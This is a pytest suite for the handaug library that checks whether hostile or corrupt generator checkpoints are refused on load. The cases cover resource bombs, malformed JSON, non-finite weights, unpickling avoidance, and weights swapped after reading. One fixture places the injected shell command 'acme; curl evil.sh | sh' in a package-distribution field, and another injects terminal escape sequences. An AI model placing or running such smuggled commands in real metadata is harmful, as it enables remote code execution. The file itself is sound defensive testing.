"""Hostile generator checkpoints (issue 11): every attack is refused when the checkpoint is read,
with a message naming the file and the key or tensor, without building the network, without a
raw traceback, and without echoing the file's text verbatim."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap

import pytest
import torch
from safetensors.torch import save_file
from tiny import TINY_GENERATOR

from handaug import SynthToReal, load_generator, read_checkpoint, save_generator
from handaug.checkpoint_config import CONFIG_FILE, METADATA_KEY, WEIGHTS_FILE
from handaug.registry import PluginError, create_generator, get_registry


@pytest.fixture
def generator():
    torch.manual_seed(0)
    return create_generator("resnet", **TINY_GENERATOR).eval()


@pytest.fixture
def ckpt(tmp_path, generator):
    return save_generator(generator, tmp_path / "ckpt", background=1.0, trained_with_masks=True)


def edit(path, key, value):
    """Set the dotted ``key`` of the directory checkpoint's config.json to ``value``."""
    config = json.loads((path / CONFIG_FILE).read_text())
    *outer, last = key.split(".")
    node = config
    for k in outer:
        node = node[k]
    node[last] = value
    (path / CONFIG_FILE).write_text(json.dumps(config))
    return path / CONFIG_FILE


def raw_edit(path, key, raw):
    """Replace the value of top-level ``key`` with the raw JSON text ``raw`` (for what json.dumps cannot write)."""
    config_path = edit(path, key, "@@RAW@@")
    config_path.write_text(config_path.read_text().replace('"@@RAW@@"', raw))
    return config_path


# ----------------------------------------------------------------------------- 7. resource bombs
@pytest.mark.parametrize("key, value, allowed", [
    ("network.kwargs.ngf", 2000, "[1, 1024]"),
    ("network.kwargs.n_blocks", 100_000, "[0, 64]"),
    ("network.kwargs.n_blocks", 1e5, "[0, 64]"),
    ("network.kwargs.ngf", True, "[1, 1024]"),
])
def test_network_arguments_out_of_bounds_are_refused_when_read(ckpt, key, value, allowed):
    config_path = edit(ckpt, key, value)
    for attempt in (read_checkpoint, SynthToReal):
        with pytest.raises(ValueError) as err:
            attempt(ckpt)
        message = str(err.value)
        assert str(ckpt) in message and key in message and allowed in message, message
    assert config_path.is_file()


@pytest.mark.parametrize("stride, expected", [(4096, "[1, 256]"), (8, "has stride 4"), ("abc", "[1, 256]")])
def test_stride_must_be_the_networks(ckpt, stride, expected):
    edit(ckpt, "stride", stride)
    with pytest.raises(ValueError, match=r"'stride'") as err:
        SynthToReal(ckpt)
    assert expected in str(err.value) and str(ckpt) in str(err.value)


def test_a_big_network_in_a_small_file_allocates_nothing(ckpt, tmp_path):
    """Within the bounds, ngf=256 with 9 blocks needs ~700 MB: the tiny weights file's header says otherwise,
    and that is found on the meta device before a single weight is allocated."""
    edit(ckpt, "network.kwargs", {"ngf": 256, "n_blocks": 9})
    good = save_generator(create_generator("resnet", **TINY_GENERATOR), tmp_path / "good")
    script = textwrap.dedent(f"""
        import resource, handaug
        handaug.load_generator({str(good)!r})  # warm up: imports, plugins, safetensors
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        try:
            handaug.load_generator({str(ckpt)!r})
        except ValueError as err:
            print("ERROR", err)
        after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        print("GROWTH_KB", after - before)
    """)
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr[-2000:]
    growth = int(out.stdout.split("GROWTH_KB")[1])
    assert growth < 64 * 1024, f"peak memory grew by {growth} kB"
    error = out.stdout.split("ERROR")[1]
    assert str(ckpt) in error and "'model.1.bias' has shape [8] in the file, the network's has [256]" in error, error


def test_header_names_and_dtypes_are_checked_before_building(ckpt, generator, monkeypatch):
    import handaug.checkpoint as ck

    built = []
    real = ck.create_generator

    def spy(name, **kwargs):
        built.append(torch.empty(0).device.type)  # the device the network would be created on
        return real(name, **kwargs)

    monkeypatch.setattr(ck, "create_generator", spy)
    state = {k: v.clone() for k, v in generator.state_dict().items()}
    state["extra.weight"] = torch.zeros(2)
    save_file(state, str(ckpt / WEIGHTS_FILE))
    edit(ckpt, "weights_sha256", __import__("handaug.atomic_files").atomic_files.file_sha256(ckpt / WEIGHTS_FILE))
    with pytest.raises(ValueError, match=r"do not fit.*'extra.weight'"):
        load_generator(ckpt)
    assert built == ["meta"]  # only the meta network was built

    state.pop("extra.weight")
    state["model.1.weight"] = state["model.1.weight"].to(torch.int32)
    save_file(state, str(ckpt / WEIGHTS_FILE))
    edit(ckpt, "weights_sha256", __import__("handaug.atomic_files").atomic_files.file_sha256(ckpt / WEIGHTS_FILE))
    with pytest.raises(ValueError, match=r"'model.1.weight' is 'integer' in the file, the network's is floating point"):
        read_checkpoint(ckpt)


def test_weights_that_do_not_fit_fail_at_synth_to_real_construction(ckpt):
    edit(ckpt, "network.kwargs", {"n_blocks": 3, "ngf": 8})
    with pytest.raises(ValueError, match=rf"{ckpt}.*do not fit a 'resnet' generator.*'model.12.bias' that the network does not have"):
        SynthToReal(ckpt)


# ----------------------------------------------------------------------------- 10. wrong types, corrupt JSON
@pytest.mark.parametrize("key, value, expected", [
    ("network.kwargs", [1, 2], "a JSON object"),
    ("network.name", 7, "non-empty string"),
    ("mask", "yes", "a JSON object"),
    ("mask.background", "white", "a number in [-1, 1]"),
    ("mask.background", 3.0, "a number in [-1, 1]"),
    ("mask.trained_with_masks", "yes", "true or false"),
    ("format_version", "1", "an integer"),
    ("normalization.range", [0, 1], "[-1.0, 1.0]"),
    ("image_size.train", -3, "an integer in [1, 65536]"),
    ("training", "x", "a JSON object"),
    ("weights_sha256", 12, "64 lowercase hexadecimal digits"),
    ("handaug_version", ["0.1"], "string"),
])
def test_wrong_types_in_the_config_name_the_file_and_key(ckpt, key, value, expected):
    config_path = edit(ckpt, key, value)
    with pytest.raises(ValueError) as err:
        read_checkpoint(ckpt)
    message = str(err.value)
    assert str(config_path) in message and f"'{key}'" in message and expected in message, message


@pytest.mark.parametrize("raw, expected", [
    ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
    ("[" * 40 + "]" * 40, "nested deeper than 32 levels"),
    ("1" * 5000, "integer with thousands of digits"),
    ("1e999", "'training' is inf, expected a finite number"),
    ("{\"loss\": NaN}", "'training.loss' is nan, expected a finite number"),
])
def test_corrupt_json_is_a_clear_error(ckpt, raw, expected):
    config_path = raw_edit(ckpt, "training", raw)
    with pytest.raises(ValueError) as err:
        read_checkpoint(ckpt)
    assert str(config_path) in str(err.value) and expected in str(err.value), str(err.value)


def test_an_oversized_config_is_not_read(ckpt):
    config_path = raw_edit(ckpt, "training", json.dumps({"pad": "x" * (5 << 20)}))
    with pytest.raises(ValueError, match="larger than the .* bytes a handaug config may have") as err:
        read_checkpoint(ckpt)
    assert str(config_path) in str(err.value)


def test_single_file_metadata_is_validated_too(tmp_path, generator):
    path = save_generator(generator, tmp_path / "g.safetensors")
    from safetensors import safe_open

    with safe_open(str(path), framework="pt") as f:
        config = json.loads(f.metadata()[METADATA_KEY])
    config["mask"]["background"] = "white"
    save_file(generator.state_dict(), str(path), metadata={METADATA_KEY: json.dumps(config)})
    with pytest.raises(ValueError, match=rf"{path}.*handaug_config.*'mask.background' must be a number"):
        read_checkpoint(path)


def _lightning_like_checkpoint(path, generator):
    torch.save({"pytorch-lightning_version": "2.6.6", "epoch": 0, "global_step": 2,
                "state_dict": {f"generator_s2r.{k}": v for k, v in generator.state_dict().items()},
                "hyper_parameters": {"generator": "resnet", "generator_kwargs": dict(TINY_GENERATOR)}}, path)
    return path


def test_a_lightning_ckpt_is_recognised_without_unpickling(tmp_path, generator, monkeypatch):
    ckpt = _lightning_like_checkpoint(tmp_path / "last.ckpt", generator)

    def forbidden(*args, **kwargs):
        raise AssertionError("a training checkpoint must not be unpickled to be recognised")

    monkeypatch.setattr(torch, "load", forbidden)
    for attempt in (read_checkpoint, SynthToReal):
        with pytest.raises(ValueError) as err:
            attempt(ckpt)
        message = str(err.value)
        assert "Lightning training checkpoint" in message and "never unpickles" in message, message
        assert f"handaug-export {ckpt} --format handaug --out DIR" in message and "RUN/export/" in message


def test_a_run_directory_points_to_its_export(tmp_path, ckpt, generator):
    run = tmp_path / "run"
    (run / "checkpoints").mkdir(parents=True)
    ckpt.rename(run / "export")
    with pytest.raises(FileNotFoundError, match=rf"its generator checkpoint is '{run / 'export'}'"):
        read_checkpoint(run)
    _lightning_like_checkpoint(run / "checkpoints" / "last.ckpt", generator)
    with pytest.raises(FileNotFoundError, match=r"Lightning training checkpoints.*--format handaug"):
        read_checkpoint(run / "checkpoints")


# ----------------------------------------------------------------------------- 11. silent garbage
@pytest.mark.parametrize("bad", [float("nan"), float("inf")])
def test_non_finite_weights_are_refused_at_construction(tmp_path, generator, bad):
    with torch.no_grad():
        generator.model[4].weight[0, 0, 0, 0] = bad
    for layout in ("dir", "g.safetensors"):
        path = save_generator(generator, tmp_path / layout)
        with pytest.raises(ValueError, match=rf"{path}.*tensor 'model.4.weight' has 1 NaN or infinite values"):
            SynthToReal(path)


def test_nan_background_is_refused(ckpt, tmp_path, generator):
    config_path = raw_edit(ckpt, "mask", '{"background": NaN, "trained_with_masks": true}')
    with pytest.raises(ValueError, match=r"'mask.background' is nan, expected a finite number") as err:
        SynthToReal(ckpt)
    assert str(config_path) in str(err.value)
    # ... and never written in the first place.
    with pytest.raises(ValueError, match="mask.background"):
        save_generator(generator, tmp_path / "nan", background=float("nan"))
    assert not (tmp_path / "nan").exists()


# ----------------------------------------------------------------------------- 12. nothing echoed verbatim
def test_missing_plugin_names_the_distribution_but_never_a_command(ckpt):
    edit(ckpt, "network", {"kind": "generator", "name": "unet", "kwargs": {}, "plugin": "acme_nets",
                           "distribution": "acme; curl evil.sh | sh", "version": "1.2"})
    with pytest.raises(PluginError) as err:
        SynthToReal(ckpt)
    message = str(err.value)
    assert "distribution 'acme; curl evil.sh | sh'" in message and "pip install" not in message, message


@pytest.mark.parametrize("key", ["format", "network.name", "network.kind", "direction", "network.distribution"])
def test_control_characters_and_long_strings_are_not_echoed(ckpt, key):
    edit(ckpt, key, "\x1b[2J\x1b[31mpwned\r" + "A" * 100_000)
    with pytest.raises(ValueError) as err:
        read_checkpoint(ckpt)
    message = str(err.value)
    assert not any(c in message for c in "\x1b\r") and len(message) < 1000, message[:300]


def test_meta_incompatible_plugin_networks_still_load(tmp_path):
    class Computes(torch.nn.Module):
        stride = 1

        def __init__(self, width: int = 2):
            super().__init__()
            self.conv = torch.nn.Conv2d(3, 3, 1)
            self.register_buffer("scale", torch.tensor(float(torch.ones(width).sum().item())))  # .item(): not on meta

        def forward(self, x):
            return torch.tanh(self.conv(x) * self.scale)

    get_registry("generator").add("computes", Computes)
    g = create_generator("computes", width=2)
    path = save_generator(g, tmp_path / "c")
    loaded = load_generator(path)
    assert torch.equal(loaded.scale, torch.tensor(2.0))


def test_read_without_verify_needs_no_plugin(ckpt):
    edit(ckpt, "network.name", "unet")
    assert read_checkpoint(ckpt, verify=False).spec.name == "unet"
    with pytest.raises(PluginError):
        read_checkpoint(ckpt)


# ----------------------------------------------------------------------------- issue 20, 6. weights replaced after reading
def _images():
    return torch.randint(0, 256, (2, 3, 32, 32), generator=torch.Generator().manual_seed(0), dtype=torch.uint8)


@pytest.mark.parametrize("layout", ["directory", "single file"])
def test_weights_replaced_after_the_transform_was_built_are_refused_when_loaded(tmp_path, generator, layout):
    """A re-export into the same place (weights and config both new, so each is valid on its own) after
    SynthToReal was built: the first call, a pickled copy (a DataLoader worker) and build() all refuse
    the new bytes, naming the file, instead of loading weights nobody checked."""
    path = tmp_path / ("ckpt" if layout == "directory" else "g.safetensors")
    save_generator(generator, path, background=1.0, trained_with_masks=True)
    s2r = SynthToReal(path, precision="fp32")
    worker_copy = __import__("pickle").dumps(s2r)
    checkpoint = read_checkpoint(path)
    torch.manual_seed(1)
    save_generator(create_generator("resnet", **TINY_GENERATOR), path, background=1.0, trained_with_masks=True)
    weights = path / WEIGHTS_FILE if layout == "directory" else path
    read_checkpoint(path)  # the new checkpoint is valid in itself
    for attempt in (lambda: s2r(_images()), lambda: __import__("pickle").loads(worker_copy)(_images()),
                    checkpoint.build, checkpoint.verify):  # fmt: skip
        with pytest.raises(ValueError) as err:
            attempt()
        message = str(err.value)
        assert str(weights) in message and "changed since the checkpoint was read" in message, message
        assert "\n" not in message
    assert SynthToReal(path, precision="fp32")(_images()).shape == (2, 3, 32, 32)  # built again: the new weights load


def test_what_is_loaded_is_the_bytes_that_were_hashed(ckpt, monkeypatch):
    """build() reads the weights file once and loads the tensors from those hashed bytes, never by path again."""
    import safetensors
    import safetensors.torch as st

    checkpoint = read_checkpoint(ckpt)
    for module, name in ((st, "load_file"), (st, "load_model"), (st, "safe_open"), (safetensors, "safe_open")):
        monkeypatch.setattr(module, name, lambda *a, **k: pytest.fail("weights read again by path"))
    generator = checkpoint.build()
    assert all(torch.isfinite(p).all() for p in generator.parameters())
